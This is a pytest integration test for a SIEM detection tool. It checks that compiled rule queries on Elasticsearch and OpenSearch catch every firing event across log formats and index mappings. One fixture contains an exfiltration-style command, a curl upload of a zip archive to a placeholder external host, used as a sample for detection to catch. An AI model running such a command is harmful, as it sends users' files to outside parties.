"""On a real Elasticsearch and a real OpenSearch: a compiled query finds every document on which a rule fires."""

import json
from collections.abc import Iterator
from typing import Any

import pytest

from exfilwatch.detection.condition import FieldTest, Not
from exfilwatch.detection.values import Text, Wild
from exfilwatch.siem.queries.elastic import Elastic, query
from exfilwatch.siem.queries.elastic_dsl import filled
from exfilwatch.siem.queries.language import said

from .engines import BY_WORDS, Index, index, mapping
from .records import RECORDS, Record, atomics, endpoint, firing, pack_records, rules, sysmon, winlogbeat

RULES = rules()
KEYWORD = {"type": "keyword", "ignore_above": 256}
TEMPLATES = {
    "keywords of up to 256 characters": {"strings": {"match_mapping_type": "string", "mapping": KEYWORD}},
    "texts with a keyword": {"strings": {"match_mapping_type": "string", "mapping": BY_WORDS}},
    "texts only": {"strings": {"match_mapping_type": "string", "mapping": {"type": "text"}}},
    "keywords of any length": {"strings": {"match_mapping_type": "string", "mapping": {"type": "keyword"}}},
    "keywords with a text": {
        "strings": {"match_mapping_type": "string", "mapping": KEYWORD | {"fields": {"text": {"type": "text"}}}}
    },
}


@pytest.fixture(scope="module", params=["opensearch", "elasticsearch"])
def client(request: pytest.FixtureRequest) -> Iterator[Any]:
    with request.getfixturevalue(request.param).client() as found:
        yield found


def long(event: Record, characters: int) -> Record:
    """The same command, after so many characters of something else."""
    line = event.get("CommandLine")
    return event | {"CommandLine": "A" * characters + " " + line} if isinstance(line, str) else event


EVENTS = [*pack_records(), *atomics()]
FORMS = {
    "flat Sysmon": [sysmon(event) for event in EVENTS],
    "winlogbeat": [winlogbeat(event) for event in EVENTS],
    "Elastic Endpoint": [endpoint(event) for event in EVENTS],
    "flat Sysmon, long": [sysmon(long(event, size)) for event in EVENTS[::3] for size in (300, 40_000)],
    "Elastic Endpoint, long": [endpoint(long(event, size)) for event in EVENTS[::3] for size in (300, 40_000)],
}


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("template", TEMPLATES)
def test_a_query_finds_all_that_fires(client: Any, template: str, form: str) -> None:
    documents = FORMS[form]
    with index(client, {"dynamic_templates": [TEMPLATES[template]]}) as put:
        put.put(documents)
        _check(put, documents, RULES)


def _check(put: Index, documents: list[Record], found: list[Any]) -> None:
    known = mapping(put.properties())
    fired = firing(found, (document for number, document in enumerate(documents) if number not in put.refused))
    assert fired
    together = put.found(query(found, known))
    numbers = {id(document): number for number, document in enumerate(documents)}
    assert {numbers[id(document)] for _, document in fired} <= together
    if (acting := put.acting(known)) is not None:
        by_lines = put.found(filled(query(found, known, looked=True), acting))
        assert {numbers[id(document)] for _, document in fired} <= by_lines
        assert len(by_lines) <= len(together)
    by_query: dict[str, set[int]] = {}  # many rules ask for the same
    for rule in {rule.id: rule for rule, _ in fired}.values():
        wanted = {numbers[id(document)] for each, document in fired if each is rule}
        asked = query([rule], known)
        told = by_query.get(json.dumps(asked)) or by_query.setdefault(json.dumps(asked), put.found(asked))
        assert wanted <= told, rule.id


def test_records_of_every_shape_are_found(client: Any) -> None:
    """In as many indices as it takes, since members of one name are of different types in different shapes."""
    left: list[Record] = [record for record in RECORDS if firing(RULES, [record])]
    while left:
        with index(client, {}) as put:
            put.put(left)
            _check(put, left, RULES)
            assert 0 not in put.refused, left[0]
            left = [record for number, record in enumerate(left) if number in put.refused]


LONG = "A" * 33_000


@pytest.mark.parametrize(
    "parts", [[LONG], [Wild.ANY, LONG], [Wild.ANY, LONG, Wild.ANY]], ids=["whole", "end", "within"]
)
def test_a_text_that_no_index_holds_is_no_error_under_not(client: Any, parts: list[Any]) -> None:
    with index(client, {"properties": {"line": {"type": "keyword"}}}) as put:
        put.put([{"line": "x"}])
        for node in (Not(FieldTest("line", Text(parts, cased=False))), FieldTest("line", Text(parts, cased=True))):
            found = said(node, Elastic(mapping(put.properties())))
            assert put.found({"match_all": {}} if found is True else found) == ({0} if isinstance(node, Not) else set())


def test_records_whose_text_holds_the_event_are_found(client: Any) -> None:
    event = json.dumps(sysmon({"Image": "C:\\curl.exe", "CommandLine": "curl.exe -T a.zip https://x.example/"}))
    shipped = {"@timestamp": "2026-03-12T09:14:02.123Z", "message": event, "agent": {"name": "ws1"}}
    with index(client, {}) as put:
        service = {"Image": "C:\\Windows\\System32\\svchost.exe", "CommandLine": "svchost.exe -k netsvcs"}
        put.put([shipped, endpoint(service) | {"message": "started"}])
        assert put.found(query(rules(sigma=False), mapping(put.properties()))) == {0}
